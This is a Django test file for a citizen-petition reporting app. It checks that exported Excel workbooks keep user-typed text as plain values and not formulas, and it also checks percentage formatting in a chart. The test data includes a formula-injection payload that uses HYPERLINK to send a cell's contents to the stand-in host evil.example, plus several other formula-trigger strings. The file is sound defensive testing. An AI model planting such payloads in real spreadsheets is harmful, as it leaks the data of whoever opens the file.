"""The spreadsheets the offices download hold values, never formulas."""

import io

import openpyxl
from django.test import SimpleTestCase

from wenzheng.reports import documents

TYPED = '=HYPERLINK("http://evil.example/?x="&B3,"点此查看")'


class NoFormulaTest(SimpleTestCase):
    def test_text_someone_typed_is_text_in_every_sheet(self):
        """A citizen's title beginning with "=" was stored as a formula in the bulletin's
        迟延留言 sheet, and ran when the county office opened the file."""
        book = documents.new_workbook()
        documents.xlsx_table(book, "表", ["标题", "单位"], [(TYPED, "东门镇"), ("+1", "@SUM(A1)")], intro=[TYPED])
        documents.xlsx_lines(book, "说明", ["-2+3"])
        book["说明"].cell(row=2, column=1, value="=1+1")
        read = openpyxl.load_workbook(io.BytesIO(documents.xlsx_bytes(book)))
        cells = [c for sheet in read.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
        self.assertEqual([c.data_type for c in cells if c.data_type == "f"], [])
        values = [c.value for c in cells]
        for typed in (TYPED, "+1", "@SUM(A1)", "-2+3", "=1+1"):
            self.assertIn(typed, values)  # as typed, not altered
        self.assertTrue(next(c for c in cells if c.value == "=1+1").quotePrefix)


class ChartShareTest(SimpleTestCase):
    def test_a_categorys_share_reads_as_every_rate(self):
        """The web chart wrote 37.0% where the documents write 37% (one decimal, a
        trailing .0 dropped)."""
        from wenzheng.reports import charts

        svg = charts.category_mix([("诉求", 37), ("咨询", 63)])
        self.assertIn("诉求类 37条（37%）", svg)
        self.assertIn("咨询类 63条（63%）", svg)
        self.assertIn("（33.3%）", charts.category_mix([("诉求", 1), ("咨询", 2)]))
